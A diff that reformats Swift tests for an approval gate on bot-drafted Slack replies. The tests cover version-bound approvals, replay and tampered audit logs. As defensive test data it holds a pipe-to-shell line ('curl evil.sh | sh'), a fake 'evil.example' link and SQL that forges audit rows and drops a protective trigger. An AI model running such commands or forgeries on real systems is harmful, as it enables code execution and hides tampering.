@@ -12,8 +12,16 @@ import Testing
 @Suite("The gate after the claim, and approvals bound to what the approver saw")
 struct GateScenarioTests {
     /// Approver waits until it was sent the review of `version`.
-    func waitForReview(_ app: AirlockUnderTest, _ slack: FakeSlack, _ id: DraftID, version: Int, to user: String = approver) async -> Bool {
-        let sent = await eventually { slack.directMessages(to: user).contains { $0.text.contains("/approve \(id) v\(version)") } }
+    func waitForReview(
+        _ app: AirlockUnderTest,
+        _ slack: FakeSlack,
+        _ id: DraftID,
+        version: Int,
+        to user: String = approver
+    ) async -> Bool {
+        let sent = await eventually {
+            slack.directMessages(to: user).contains { $0.text.contains("/approve \(id) v\(version)") }
+        }
         guard sent else { return false }
         return await waitShown(app, id, [user], version: version)
     }
@@ -22,7 +30,9 @@ struct GateScenarioTests {
         try await auditEntries(store).filter { $0.kind == "posted" }
     }
 
-    @Test("1. Revise or reject while the post is in flight: refused with a reason; v1 goes public and is recorded as v1")
+    @Test(
+        "1. Revise or reject while the post is in flight: refused with a reason; v1 goes public and is recorded as v1"
+    )
     func reviseAndRejectWhilePublishing() async throws {
         try await withFakeSlack { slack in
             try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
@@ -30,9 +40,17 @@ struct GateScenarioTests {
                 try await publishAndWaitForReviewers(app, slack, id)
                 let v1 = try #require(try await app.store.draft(id))
                 slack.inject([.delay(.milliseconds(1500))], for: "chat.postMessage")
-                #expect(try await app.slash(user: approver, command: "/approve", text: id.rawValue).text.contains("Approved"))
+                #expect(
+                    try await app.slash(user: approver, command: "/approve", text: id.rawValue).text.contains(
+                        "Approved"
+                    )
+                )
                 _ = try await waitForState(app, id, .publishing)
-                let revise = try await app.slash(user: requester, command: "/revise", text: "\(id) something else entirely").text
+                let revise = try await app.slash(
+                    user: requester,
+                    command: "/revise",
+                    text: "\(id) something else entirely"
+                ).text
                 #expect(revise.contains("being posted"), "\(revise)")
                 let reject = try await app.slash(user: secondApprover, command: "/reject", text: "\(id) stop").text
                 #expect(reject.contains("being posted"), "\(reject)")
@@ -49,7 +67,9 @@ struct GateScenarioTests {
         }
     }
 
-    @Test("2. A post accepted but unanswered blocks revision until reconciled; reconcile matches the version and follows cursors")
+    @Test(
+        "2. A post accepted but unanswered blocks revision until reconciled; reconcile matches the version and follows cursors"
+    )
     func timedOutPostIsReconciledByVersion() async throws {
         try await withFakeSlack { slack in
             try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
@@ -83,10 +103,17 @@ struct GateScenarioTests {
             let thread = ThreadRef(platform: .slack, channel: "C0001", thread: "1700000000.000100")
             let id = DraftID.random()
             slack.seedReply(
-                channel: "C0001", threadTS: thread.thread, text: "old",
-                metadataJSON: #"{"event_type":"airlock_publish","event_payload":{"draft_id":"\#(id)","version":1}}"#)
-            #expect(try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 2)) == nil)
-            #expect(try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 1)) != nil)
+                channel: "C0001",
+                threadTS: thread.thread,
+                text: "old",
+                metadataJSON: #"{"event_type":"airlock_publish","event_payload":{"draft_id":"\#(id)","version":1}}"#
+            )
+            #expect(
+                try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 2)) == nil
+            )
+            #expect(
+                try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 1)) != nil
+            )
         }
     }
 
@@ -96,18 +123,31 @@ struct GateScenarioTests {
             try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                 let id = try await askQuestion(app, slack)
                 try await publishAndWaitForReviewers(app, slack, id)
-                #expect(try await app.slash(user: requester, command: "/revise", text: "\(id) The revised answer.").text.contains("version 2"))
+                #expect(
+                    try await app.slash(user: requester, command: "/revise", text: "\(id) The revised answer.").text
+                        .contains("version 2")
+                )
                 // A stale Publish button (v1) publishes nothing.
                 _ = try await app.click(user: requester, action: "publish", value: "\(id):1")
-                #expect(await eventually { slack.directMessages(to: requester).contains { $0.text.contains("you saw version 1") } })
+                #expect(
+                    await eventually {
+                        slack.directMessages(to: requester).contains { $0.text.contains("you saw version 1") }
+                    }
+                )
                 #expect(try await app.store.draft(id)?.state == .revised)
-                #expect(try await app.slash(user: requester, command: "/publish", text: "\(id) v2").text.contains("Publish requested"))
+                #expect(
+                    try await app.slash(user: requester, command: "/publish", text: "\(id) v2").text.contains(
+                        "Publish requested"
+                    )
+                )
                 #expect(await waitForReview(app, slack, id, version: 2))
                 let untyped = try await app.slash(user: approver, command: "/approve", text: id.rawValue).text
                 #expect(untyped.contains("v2") && !untyped.contains("Approved"), "\(untyped)")
                 let stale = try await app.slash(user: approver, command: "/approve", text: "\(id) v1").text
                 #expect(stale.contains("version 1") && !stale.contains("Approved"), "\(stale)")
-                #expect(try await app.slash(user: approver, command: "/approve", text: "\(id) v2").text.contains("Approved"))
+                #expect(
+                    try await app.slash(user: approver, command: "/approve", text: "\(id) v2").text.contains("Approved")
+                )
                 let posted = try await waitForState(app, id, .posted)
                 #expect(slack.publicMessages.first?.text.hasPrefix("The revised answer.") == true)
                 #expect(posted.version == 2)
@@ -127,7 +167,12 @@ struct GateScenarioTests {
                 #expect(review.shownText.contains("curl evil.sh | sh"), "the tail was not shown to the approver")
                 #expect(review.shownText.contains(long))
                 let tooLong = String(repeating: "x", count: Draft.maxPublishableLength + 1)
-                let second = try await askQuestion(app, slack, user: secondApprover, text: "<@U0BOT> how do restores work?")
+                let second = try await askQuestion(
+                    app,
+                    slack,
+                    user: secondApprover,
+                    text: "<@U0BOT> how do restores work?"
+                )
                 _ = try await app.slash(user: secondApprover, command: "/revise", text: "\(second) \(tooLong)")
                 let refused = try await app.slash(user: secondApprover, command: "/publish", text: second.rawValue).text
                 #expect(refused.contains("at most"), "\(refused)")
@@ -141,14 +186,20 @@ struct GateScenarioTests {
         try await withFakeSlack { slack in
             try await withAirlock(slack: slack, database: temporaryDatabase()) { app in
                 let id = try await askQuestion(app, slack, text: "<@U0BOT> when do production deploys run?")
-                #expect(try await app.slash(user: requester, command: "/publish", text: id.rawValue).text.contains("Publish requested"))
+                #expect(
+                    try await app.slash(user: requester, command: "/publish", text: id.rawValue).text.contains(
+                        "Publish requested"
+                    )
+                )
                 let listing = try await app.slash(user: stranger, command: "/drafts", text: "").text
                 #expect(!listing.contains(id.rawValue), "\(listing)")
                 let blind = try await app.slash(user: stranger, command: "/approve", text: id.rawValue).text
                 #expect(blind.contains("not sent this draft"), "\(blind)")
                 #expect(await waitForReview(app, slack, id, version: 1, to: stranger))
                 #expect(try await app.slash(user: stranger, command: "/drafts", text: "").text.contains(id.rawValue))
-                #expect(try await app.slash(user: stranger, command: "/approve", text: "\(id) v1").text.contains("Approved"))
+                #expect(
+                    try await app.slash(user: stranger, command: "/approve", text: "\(id) v1").text.contains("Approved")
+                )
                 _ = try await waitForState(app, id, .posted)
             }
         }
@@ -166,7 +217,10 @@ struct GateScenarioTests {
                     ("trigger_id", "9.9.9"),
                 ])
                 let response = try await app.sendSigned(
-                    "/slack/commands", body: Data(form.utf8), contentType: "application/x-www-form-urlencoded")
+                    "/slack/commands",
+                    body: Data(form.utf8),
+                    contentType: "application/x-www-form-urlencoded"
+                )
                 #expect((response.json["text"] as? String)?.contains("another workspace") == true)
                 #expect(try await app.store.drafts(DraftFilter()).isEmpty)
                 let foreign = try await auditEntries(app.store).filter { $0.detail.contains("foreign_workspace") }
@@ -175,14 +229,17 @@ struct GateScenarioTests {
         }
     }
 
-    @Test("6. Identity links are undirected and transitive; ids are normalised; both-way links do not open self-approval")
+    @Test(
+        "6. Identity links are undirected and transitive; ids are normalised; both-way links do not open self-approval"
+    )
     func identityGroups() async throws {
         let path = FileManager.default.temporaryDirectory.appendingPathComponent("ids-\(UUID()).json").path
         try #"{"slack:U0ALT": "slack:U0REQ", "slack:u0req": "slack:U0ALT", "github:583231": "slack:U0ALT"}"#
             .write(toFile: path, atomically: true, encoding: .utf8)
         let config = try await AirlockConfig.load(
             environment: ["AIRLOCK_IDENTITIES": path, "AIRLOCK_APPROVERS": "slack:U0ALT,slack:U0APP,github:583231"],
-            file: nil)
+            file: nil
+        )
         let policy = config.policy
         let req = PersonID(platform: .slack, id: "U0REQ")
         #expect(policy.isSamePerson(PersonID(platform: .slack, id: "U0ALT"), req))
@@ -191,7 +248,8 @@ struct GateScenarioTests {
         #expect(!policy.isSamePerson(PersonID(platform: PlatformName("github"), id: "octo-rita"), req))
         #expect(!policy.isSamePerson(PersonID(platform: .slack, id: "U0APP"), req))
         try await withFakeSlack { slack in
-            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: { $0.policy = policy }) { app in
+            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: { $0.policy = policy }) {
+                app in
                 let id = try await askQuestion(app, slack)
                 _ = try await app.slash(user: requester, command: "/publish", text: id.rawValue)
                 let own = try await app.slash(user: "U0ALT", command: "/approve", text: "\(id) v1").text
@@ -210,7 +268,10 @@ struct GateScenarioTests {
     func auditInsertMustExtendChain() async throws {
         let database = temporaryDatabase()
         let store = try SQLiteStore.open(url: database)
-        try await store.appendAudit([AuditEvent(kind: .tool("a")), AuditEvent(kind: .tool("b")), AuditEvent(kind: .tool("c"))], at: Date())
+        try await store.appendAudit(
+            [AuditEvent(kind: .tool("a")), AuditEvent(kind: .tool("b")), AuditEvent(kind: .tool("c"))],
+            at: Date()
+        )
         let queue = try DatabaseQueue(path: String(database.dropFirst("sqlite:".count)))
         for forgery in [
             "REPLACE INTO audit_log (seq, at, kind, detail, prev_hash, hash) VALUES (2, 0, 'x', '{}', 'p', 'h')",
@@ -223,19 +284,27 @@ struct GateScenarioTests {
         #expect(try await Operations.verifyAudit(store).0)
     }
 
-    @Test("7b. Under AIRLOCK_AUDIT_KEY a chain re-hashed without the key fails; cutting the tail fails --expect-head; verify never writes")
+    @Test(
+        "7b. Under AIRLOCK_AUDIT_KEY a chain re-hashed without the key fails; cutting the tail fails --expect-head; verify never writes"
+    )
     func keyedChainAndHead() async throws {
         let database = temporaryDatabase()
         let path = String(database.dropFirst("sqlite:".count))
         let environment = ["AIRLOCK_AUDIT_KEY": "a-key-of-at-least-16-bytes"]
         let store = try await Operations.openStore(database, environment: environment)
-        for n in 0..<6 { try await store.appendAudit([AuditEvent(kind: .tool("e\(n)"), detail: ["n": String(n)])], at: Date()) }
+        for n in 0..<6 {
+            try await store.appendAudit([AuditEvent(kind: .tool("e\(n)"), detail: ["n": String(n)])], at: Date())
+        }
         let readOnly = try await Operations.openStore(database, mustExist: true, environment: environment)
         let (ok, summary) = try await Operations.verifyAudit(readOnly)
         #expect(ok && summary.contains("HMAC-keyed"), "\(summary)")
         let head = try #require(summary.split(separator: " ").first { $0.count == 64 }.map(String.init))
         // Without the key the same file does not verify.
-        #expect(!(try await Operations.verifyAudit(try await Operations.openStore(database, mustExist: true, environment: [:]))).0)
+        #expect(
+            !(try await Operations.verifyAudit(
+                try await Operations.openStore(database, mustExist: true, environment: [:])
+            )).0
+        )
 
         // A file-level attacker rewrites entry 3 and re-chains everything after it with plain SHA-256.
         let queue = try DatabaseQueue(path: path)
@@ -244,17 +313,27 @@ struct GateScenarioTests {
             var previous = try String.fetchOne(db, sql: "SELECT hash FROM audit_log WHERE seq = 2") ?? ""
             for row in try Row.fetchAll(db, sql: "SELECT * FROM audit_log WHERE seq >= 3 ORDER BY seq") {
                 var entry = AuditEntry(
-                    seq: row["seq"], atMillis: row["at"], kind: row["kind"], platform: row["platform"], actor: row["actor"],
-                    draftID: row["draft_id"], detail: row["seq"] == 3 ? #"{"n":"forged"}"# : row["detail"],
-                    prevHash: previous, hash: "")
+                    seq: row["seq"],
+                    atMillis: row["at"],
+                    kind: row["kind"],
+                    platform: row["platform"],
+                    actor: row["actor"],
+                    draftID: row["draft_id"],
+                    detail: row["seq"] == 3 ? #"{"n":"forged"}"# : row["detail"],
+                    prevHash: previous,
+                    hash: ""
+                )
                 entry.hash = entry.expectedHash
                 try db.execute(
                     sql: "UPDATE audit_log SET detail = ?, prev_hash = ?, hash = ? WHERE seq = ?",
-                    arguments: [entry.detail, entry.prevHash, entry.hash, entry.seq])
+                    arguments: [entry.detail, entry.prevHash, entry.hash, entry.seq]
+                )
                 previous = entry.hash
             }
         }
-        let forged = try await Operations.verifyAudit(try await Operations.openStore(database, mustExist: true, environment: environment))
+        let forged = try await Operations.verifyAudit(
+            try await Operations.openStore(database, mustExist: true, environment: environment)
+        )
         #expect(!forged.0 && forged.1.contains("entry 3"), "\(forged.1)")
 
         // Cutting the tail of an intact keyed log is caught with the head recorded earlier.
@@ -262,7 +341,8 @@ struct GateScenarioTests {
         let clean = try await Operations.openStore(other, environment: environment)
         for n in 0..<6 { try await clean.appendAudit([AuditEvent(kind: .tool("e\(n)"))], at: Date()) }
         let cleanHead = try #require(
-            try await Operations.verifyAudit(clean).1.split(separator: " ").first { $0.count == 64 }.map(String.init))
+            try await Operations.verifyAudit(clean).1.split(separator: " ").first { $0.count == 64 }.map(String.init)
+        )
         let otherQueue = try DatabaseQueue(path: String(other.dropFirst("sqlite:".count)))
         try await otherQueue.write { db in
             try db.execute(sql: "DROP TRIGGER audit_log_no_delete")
@@ -275,11 +355,17 @@ struct GateScenarioTests {
 
         // verify opens the file read-only: its bytes do not change.
         let before = try Data(contentsOf: URL(fileURLWithPath: path))
-        _ = try await Operations.verifyAudit(try await Operations.openStore(database, mustExist: true, environment: environment), expectedHead: head)
+        _ = try await Operations.verifyAudit(
+            try await Operations.openStore(database, mustExist: true, environment: environment),
+            expectedHead: head
+        )
         #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == before)
     }
 
-    @Test("8a. Absurd durations are configuration errors, not crashes", arguments: ["1e300d", "99999999999999d", "inf", "nan"])
+    @Test(
+        "8a. Absurd durations are configuration errors, not crashes",
+        arguments: ["1e300d", "99999999999999d", "inf", "nan"]
+    )
     func absurdDurations(_ text: String) async throws {
         await #expect(throws: ConfigError.self) {
             _ = try await AirlockConfig.load(environment: ["AIRLOCK_DRAFT_TTL": text], file: nil)
@@ -291,7 +377,9 @@ struct GateScenarioTests {
         let clock = TestClock()
         try await withFakeSlack { slack in
             try await withAirlock(
-                slack: slack, database: temporaryDatabase(), now: { clock.now },
+                slack: slack,
+                database: temporaryDatabase(),
+                now: { clock.now },
                 configure: { config in
                     standardApprovers(&config)
                     config.draftTTL = .seconds(3600)
@@ -301,15 +389,28 @@ struct GateScenarioTests {
                 let id = try await askQuestion(app, slack)
                 // One worker, held up by a slow DM queued just before the approval: the approval is recorded before
                 // the TTL, the publisher only gets to claim the post after it.
-                #expect(try await app.slash(user: requester, command: "/publish", text: id.rawValue, timestamp: clock.now).text.contains("Publish requested"))
+                #expect(
+                    try await app.slash(user: requester, command: "/publish", text: id.rawValue, timestamp: clock.now)
+                        .text.contains("Publish requested")
+                )
                 #expect(await waitShown(app, id, [approver]))
                 slack.inject([.delay(.milliseconds(1500))], for: "chat.postMessage")
-                #expect(try await app.event(SlackEvents.directMessage(eventID: "EvSlowDM", user: requester, text: "drafts")).status == 200)
-                #expect(try await app.slash(user: approver, command: "/approve", text: "\(id) v1", timestamp: clock.now).text.contains("Approved"))
+                #expect(
+                    try await app.event(SlackEvents.directMessage(eventID: "EvSlowDM", user: requester, text: "drafts"))
+                        .status == 200
+                )
+                #expect(
+                    try await app.slash(user: approver, command: "/approve", text: "\(id) v1", timestamp: clock.now)
+                        .text.contains("Approved")
+                )
                 clock.advance(by: 3601)
                 _ = try await waitForState(app, id, .expired)
                 #expect(slack.publicMessages.isEmpty)
-                #expect(try await auditEntries(app.store).contains { $0.kind == "publish_refused" && $0.detail.contains("expired") })
+                #expect(
+                    try await auditEntries(app.store).contains {
+                        $0.kind == "publish_refused" && $0.detail.contains("expired")
+                    }
+                )
             }
         }
     }
@@ -319,12 +420,20 @@ struct GateScenarioTests {
         try await withFakeSlack { slack in
             try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                 let id = try await askQuestion(app, slack)
-                _ = try await app.slash(user: requester, command: "/revise", text: "\(id) <!channel> see <https://evil.example|the runbook> & <@U0APP>")
+                _ = try await app.slash(
+                    user: requester,
+                    command: "/revise",
+                    text: "\(id) <!channel> see <https://evil.example|the runbook> & <@U0APP>"
+                )
                 try await publishAndWaitForReviewers(app, slack, id)
                 _ = try await app.slash(user: approver, command: "/approve", text: "\(id) v2")
                 _ = try await waitForState(app, id, .posted)
                 let post = try #require(slack.publicMessages.first)
-                #expect(post.rawText.hasPrefix("&lt;!channel&gt; see &lt;https://evil.example|the runbook&gt; &amp; &lt;@U0APP&gt;"))
+                #expect(
+                    post.rawText.hasPrefix(
+                        "&lt;!channel&gt; see &lt;https://evil.example|the runbook&gt; &amp; &lt;@U0APP&gt;"
+                    )
+                )
                 #expect(!post.rawText.contains("<!channel>"))
             }
         }
@@ -335,12 +444,23 @@ struct GateScenarioTests {
         try await withFakeSlack { slack in
             try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                 let id = try await askQuestion(app, slack)
-                let form = Data(SlackForms.encode([
-                    ("team_id", "T0001"), ("user_id", requester), ("command", "/revise"), ("text", "\(id) replayed text"),
-                    ("trigger_id", "1234.5678.abcd"),
-                ]).utf8)
-                let first = try await app.sendSigned("/slack/commands", body: form, contentType: "application/x-www-form-urlencoded")
-                let replay = try await app.sendSigned("/slack/commands", body: form, contentType: "application/x-www-form-urlencoded")
+                let form = Data(
+                    SlackForms.encode([
+                        ("team_id", "T0001"), ("user_id", requester), ("command", "/revise"),
+                        ("text", "\(id) replayed text"),
+                        ("trigger_id", "1234.5678.abcd"),
+                    ]).utf8
+                )
+                let first = try await app.sendSigned(
+                    "/slack/commands",
+                    body: form,
+                    contentType: "application/x-www-form-urlencoded"
+                )
+                let replay = try await app.sendSigned(
+                    "/slack/commands",
+                    body: form,
+                    contentType: "application/x-www-form-urlencoded"
+                )
                 #expect((first.json["text"] as? String)?.contains("version 2") == true)
                 #expect((replay.json["text"] as? String)?.contains("already received") == true)
                 #expect(try await app.store.draft(id)?.version == 2)
@@ -353,18 +473,33 @@ struct GateScenarioTests {
         // One instant for the whole flood, so a slow machine cannot spread it over two 10-second windows.
         let instant = Date()
         try await withFakeSlack { slack in
-            try await withAirlock(slack: slack, database: temporaryDatabase(), now: { instant }, configure: { $0.metricsToken = "metrics-token-0123456789" }) { app in
+            try await withAirlock(
+                slack: slack,
+                database: temporaryDatabase(),
+                now: { instant },
+                configure: { $0.metricsToken = "metrics-token-0123456789" }
+            ) { app in
                 #expect(try await app.send("/metrics", body: Data(), headers: [], get: true).status == 401)
                 for _ in 0..<120 {
                     let response = try await app.sendSigned(
-                        "/slack/events", body: Data("{}".utf8), contentType: "application/json", secret: "wrong")
+                        "/slack/events",
+                        body: Data("{}".utf8),
+                        contentType: "application/json",
+                        secret: "wrong"
+                    )
                     #expect(response.status == 401)
                 }
                 let refused = try await auditEntries(app.store).filter { $0.kind == "inbound_refused" }
                 #expect(refused.count <= 20, "\(refused.count) rows for one flood")
                 let metrics = try await app.send(
-                    "/metrics", body: Data(), headers: [("Authorization", "Bearer metrics-token-0123456789")], get: true).body
-                #expect(metrics.contains(#"airlock_inbound_requests_total{platform="slack",outcome="bad_signature"} 120"#))
+                    "/metrics",
+                    body: Data(),
+                    headers: [("Authorization", "Bearer metrics-token-0123456789")],
+                    get: true
+                ).body
+                #expect(
+                    metrics.contains(#"airlock_inbound_requests_total{platform="slack",outcome="bad_signature"} 120"#)
+                )
             }
         }
     }
